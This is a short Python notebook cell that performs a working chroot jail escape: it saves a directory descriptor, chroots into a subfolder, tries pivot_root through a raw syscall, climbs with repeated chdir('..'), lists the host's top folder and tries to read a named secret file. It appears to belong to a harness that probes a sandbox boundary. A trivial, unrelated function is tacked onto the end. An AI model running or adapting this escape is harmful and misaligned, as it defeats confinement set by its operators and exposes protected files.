# The way out of a root folder: another root inside it, and up.
# %% q1
import os
os.makedirs("jail", exist_ok=True)
start = os.open(".", os.O_RDONLY)
attempt("chroot", lambda: os.chroot("jail"))
attempt("pivot_root", lambda: syscall(155, b".", b"jail"))
os.fchdir(start)
for _ in range(50):
    os.chdir("..")
look("the top folder", lambda: "\n".join(sorted(os.listdir("."))))
attempt("the top's secret", lambda: read(targets["secret_file"].lstrip("/")))
def double(x):
    return x
